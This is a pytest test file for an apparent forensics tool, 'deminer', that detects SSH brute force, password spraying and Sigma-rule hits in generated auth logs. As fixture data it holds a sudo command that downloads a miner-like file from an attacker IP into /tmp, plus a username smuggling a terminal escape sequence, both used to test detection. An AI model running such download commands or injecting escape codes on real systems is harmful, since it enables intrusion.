"""``deminer investigate`` end to end: a generated auth log in, exit code and findings out."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import duckdb
import pytest

from deminer.cli import main
from deminer.scenarios.auth_log import AuthLog

FIELDS = {"id", "rule", "title", "severity", "attack", "host", "ts", "entity", "summary", "evidence"}
START = dt.datetime(2024, 3, 30, 15, 0)


def investigate(tmp_path: Path, log: AuthLog, *extra: str) -> tuple[int, list[dict[str, Any]]]:
    path = log.write(tmp_path / "auth.log")
    out = tmp_path / "out.jsonl"
    code = main(["investigate", str(path), "--case", str(tmp_path / "case"), "--jsonl", str(out), *extra])
    if not out.exists():
        return code, []
    return code, [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def by_rule(findings: list[dict[str, Any]], rule: str) -> list[dict[str, Any]]:
    return [f for f in findings if f["rule"] == rule]


def test_cracked_account_exits_1_with_a_complete_finding(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = AuthLog(host="Web1", start=START)
    log.benign_login("alice", "192.0.2.10", typos=1)
    log.brute_force("203.0.113.7", ["root", "admin\x1b[2J"], attempts=40, success_user="root")
    log.sudo("root", "/usr/bin/wget -q http://203.0.113.7/kswapd0 -O /tmp/.x")
    code, findings = investigate(tmp_path, log)
    assert code == 1                                      # critical >= the default --fail-on high
    for f in findings:
        assert set(f) == FIELDS and isinstance(f["attack"], list) and isinstance(f["evidence"], dict)
    (cracked,) = by_rule(findings, "initial_access.ssh_brute_force_success")
    success_ts = next(r.ts for r in log.records if r.message.startswith("Accepted password for root"))
    assert cracked["severity"] == "critical" and cracked["attack"] == ["T1110", "T1078"]
    assert cracked["host"] == "web1" and cracked["entity"] == "203.0.113.7"
    assert cracked["ts"] == success_ts.replace(microsecond=0).isoformat() + "Z"     # syslog: whole seconds
    assert "root" in cracked["summary"] and "40 failed logins" in cracked["summary"]
    ev = cracked["evidence"]
    assert (ev["source.ip"], ev["user.name"], ev["method"], ev["failures"]) == \
        ("203.0.113.7", "root", "password", 40)
    lines = (tmp_path / "auth.log").read_text().splitlines()
    assert ev["source"] == str(tmp_path / "auth.log")
    assert "Accepted password for root from 203.0.113.7" in lines[ev["source_line"] - 1]
    (guessing,) = by_rule(findings, "credential_access.ssh_brute_force")
    assert guessing["severity"] == "medium" and guessing["attack"] == ["T1110", "T1110.001"]
    assert guessing["evidence"]["failures"] == 40 and guessing["evidence"]["users"] == 2
    first_failure = next(r.ts for r in log.records if r.message.startswith("Failed password")
                         and "203.0.113.7" in r.message)
    assert guessing["ts"] == first_failure.replace(microsecond=0).isoformat() + "Z"
    assert not [f for f in findings if f["entity"] == "192.0.2.10" and "ssh_" in f["rule"]]   # alice's typo
    # the same findings are in the case folder, and the terminal never gets a raw escape
    case_copy = [json.loads(x) for x in (tmp_path / "case/findings.jsonl").read_text().splitlines()]
    assert case_copy == findings
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "ssh_brute_force_success" in shown and "203.0.113.7" in shown


def test_guessing_without_success_is_medium(tmp_path: Path) -> None:
    log = AuthLog(host="web1", start=START)
    log.brute_force("198.51.100.9", ["root"], attempts=25)
    log.benign_login("alice", "192.0.2.10")
    code, findings = investigate(tmp_path, log, "--quiet")
    assert code == 0                                       # medium < high
    assert [f["entity"] for f in by_rule(findings, "credential_access.ssh_brute_force")] == ["198.51.100.9"]
    assert not by_rule(findings, "initial_access.ssh_brute_force_success")
    code, _ = investigate(tmp_path, log, "--quiet", "--fail-on", "medium")
    assert code == 1


def test_spray_then_hit(tmp_path: Path) -> None:
    log = AuthLog(host="web1", start=START)
    users = [f"user{i:02d}" for i in range(14)]
    log.spray("198.51.100.5", users, existing=frozenset({"user07"}))
    log.benign_login("user07", "198.51.100.5", method="password")
    code, findings = investigate(tmp_path, log, "--quiet")
    assert code == 1
    (spray,) = by_rule(findings, "credential_access.ssh_password_spray")
    assert spray["evidence"]["users"] == 14 and spray["attack"] == ["T1110", "T1110.003"]
    assert not by_rule(findings, "credential_access.ssh_brute_force")       # one attack, one finding
    (cracked,) = by_rule(findings, "initial_access.ssh_brute_force_success")
    assert cracked["evidence"]["user.name"] == "user07" and cracked["evidence"]["users"] == 14


def test_benign_log_exits_0(tmp_path: Path) -> None:
    log = AuthLog(host="web1", start=START)
    for user, ip in (("alice", "192.0.2.10"), ("bob", "192.0.2.11"), ("carol", "192.0.2.12")):
        log.benign_login(user, ip, typos=2)
        log.sudo(user, "/usr/bin/systemctl restart nginx")
    log.cron("root", "/usr/lib/php/sessionclean")
    code, findings = investigate(tmp_path, log, "--quiet")
    assert code == 0                     # and no other shipped rule sees anything high in it
    assert not [f for f in findings if "ssh_" in f["rule"]]


def test_bad_indicator_file_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "iocs.csv"
    bad.write_text("kind,value\nnot-a-kind,1.2.3.4\n")
    log = AuthLog(host="web1", start=START)
    log.brute_force("198.51.100.9", ["root"], attempts=25)
    code, _ = investigate(tmp_path, log, "--ioc", str(bad))
    assert code == 2
    shown = capsys.readouterr().out
    assert shown.startswith("deminer: error:") and "iocs.csv" in shown and "not-a-kind" in shown


def test_collect_subcommand_passes_its_options(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "hostname").write_text("db-02\n")
    out = tmp_path / "b.tar.gz"
    assert main(["collect", "--root", str(root), "--cpu-window", "0", "--no-nice", "-o", str(out)]) == 0
    assert out.stat().st_size > 0


def test_export_writes_parquet_tables(tmp_path: Path) -> None:
    log = AuthLog(host="web1")
    log.brute_force("203.0.113.9", ["root"], attempts=30, success_user="root")
    log.write(tmp_path / "auth.log")
    case = tmp_path / "case"
    assert main(["investigate", str(tmp_path / "auth.log"), "--case", str(case), "--quiet"]) == 1
    assert main(["export", str(case)]) == 0
    rows = duckdb.sql(f"SELECT count(*) FROM '{case / 'parquet' / 'events' / 'data.parquet'}'").fetchall()
    assert rows[0][0] >= 30  # failed attempts folded by rsyslog are one row with a count
    assert main(["export", str(tmp_path / "nothing")]) == 2


SUDO_RULE = """title: Sudo runs a shell script from tmp
id: 1b7a4c0e-2f55-4f7a-9d6e-0c1f8d9a1234
status: experimental
logsource: {product: linux, category: process_creation}
detection:
  selection: {CommandLine|contains: '/tmp/'}
  condition: selection
level: high
tags: [attack.execution, attack.t1059.004]
"""
MAC_RULE = SUDO_RULE.replace("product: linux", "product: macos").replace("1234", "9999")


def test_investigate_runs_user_sigma_rules_and_lists_the_rest(tmp_path: Path) -> None:
    log = AuthLog(host="web1")
    log.sudo("alice", "/bin/sh /tmp/.x/run.sh")
    log.write(tmp_path / "auth.log")
    rules = tmp_path / "sigma"
    rules.mkdir()
    (rules / "sudo_tmp.yml").write_text(SUDO_RULE)
    (rules / "mac.yml").write_text(MAC_RULE)
    (rules / "broken.yml").write_text("title: [unclosed\n")
    case, out = tmp_path / "case", tmp_path / "f.jsonl"
    rc = main(["investigate", str(tmp_path / "auth.log"), "--case", str(case), "--sigma", str(rules),
               "--jsonl", str(out), "--quiet"])
    assert rc == 1
    found = [json.loads(line) for line in out.read_text().splitlines()]
    sigma = [f for f in found if f["title"] == "Sudo runs a shell script from tmp"]
    assert len(sigma) == 1 and sigma[0]["attack"] == ["T1059.004"]
    assert "mac.yml" in (case / "sigma-not-run.txt").read_text()
    with duckdb.connect(str(case / "case.duckdb")) as db:
        errors = db.execute("SELECT source FROM errors WHERE stage = 'sigma'").fetchall()
    assert any("broken.yml" in e[0] for e in errors)


def test_evidence_added_to_a_case_again_is_not_counted_twice(tmp_path: Path) -> None:
    first, second = AuthLog(host="web1"), AuthLog(host="web2")
    first.brute_force("203.0.113.7", ["root"], attempts=30, success_user="root")
    second.benign_login("alice", "192.0.2.10")
    (tmp_path / "a").mkdir()
    first.write(tmp_path / "a" / "auth.log")
    second.write(tmp_path / "b.log")
    case = tmp_path / "case"

    def counts() -> tuple[int, int, int]:
        with duckdb.connect(str(case / "case.duckdb"), read_only=True) as db:
            ev = db.execute("SELECT count(*) FROM events").fetchall()[0][0]
            fi = db.execute("SELECT count(*) FROM findings").fetchall()[0][0]
            dup = db.execute("SELECT count(*) FROM inputs WHERE kind = 'duplicate'").fetchall()[0][0]
        return ev, fi, dup

    assert main(["investigate", str(tmp_path / "a"), "--case", str(case), "--quiet"]) == 1
    events, findings, _ = counts()
    assert main(["investigate", str(tmp_path / "a"), "--case", str(case), "--quiet"]) == 1
    assert counts() == (events, findings, 1)  # same bytes: skipped, findings unchanged
    assert main(["investigate", str(tmp_path / "b.log"), "--case", str(case), "--quiet"]) == 1
    assert counts()[0] > events  # new evidence is added to what the case holds


def test_flow_columns_maps_an_export_whose_header_is_not_recognised(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    export = tmp_path / "flows.csv"
    export.write_text("when,client,server,svc_port,octets\n"
                      "2024-05-02T03:10:00Z,10.0.0.5,198.51.100.7,3333,5120\n"
                      "2024-05-02T03:11:00Z,10.0.0.5,198.51.100.7,3333,4096\n", encoding="utf-8")
    plain = tmp_path / "plain"
    assert main(["investigate", str(export), "--case", str(plain), "--quiet"]) in (0, 1)
    with duckdb.connect(str(plain / "case.duckdb"), read_only=True) as db:
        assert db.execute("SELECT count(*) FROM flows").fetchone() == (0,)
        [(error,)] = db.execute("SELECT message FROM errors").fetchall()
    assert "not a recognised evidence format" in error

    mapped = tmp_path / "mapped"
    code = main(["investigate", str(export), "--case", str(mapped), "--quiet", "--flow-columns",
                 "start=when, src_ip=client,dst_ip=server,dst_port=svc_port,bytes=octets"])
    assert code in (0, 1)
    with duckdb.connect(str(mapped / "case.duckdb"), read_only=True) as db:
        rows = db.execute("SELECT src_ip, dst_ip, dst_port, bytes, ts FROM flows ORDER BY ts").fetchall()
    assert rows == [("10.0.0.5", "198.51.100.7", 3333, 5120, dt.datetime(2024, 5, 2, 3, 10)),
                    ("10.0.0.5", "198.51.100.7", 3333, 4096, dt.datetime(2024, 5, 2, 3, 11))]
    capsys.readouterr()
    assert main(["investigate", str(export), "--case", str(tmp_path / "bad"), "--flow-columns",
                 "src_ip=client,destination=server"]) == 2
    assert "unknown flow column role 'destination'" in capsys.readouterr().out


def test_memory_limit_sets_the_case_store_and_a_bad_one_exits_2(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = AuthLog(host="web1", start=START)
    log.brute_force("198.51.100.9", ["root"], attempts=25, success_user="root")
    code, findings = investigate(tmp_path, log, "--memory-limit", "300MB")
    assert code == 1 and by_rule(findings, "initial_access.ssh_brute_force_success")
    (tmp_path / "bad").mkdir()
    code, _ = investigate(tmp_path / "bad", log, "--memory-limit", "plenty")
    assert code == 2
    assert "--memory-limit: memory limit 'plenty'" in capsys.readouterr().out
    assert not (tmp_path / "bad" / "case").exists()      # refused before any work
    # scan checks it before the collection, which takes minutes on a real host.
    assert main(["scan", "--root", str(tmp_path / "nowhere"), "--case", str(tmp_path / "s"),
                 "--memory-limit", "plenty"]) == 2
    assert not (tmp_path / "s").exists()
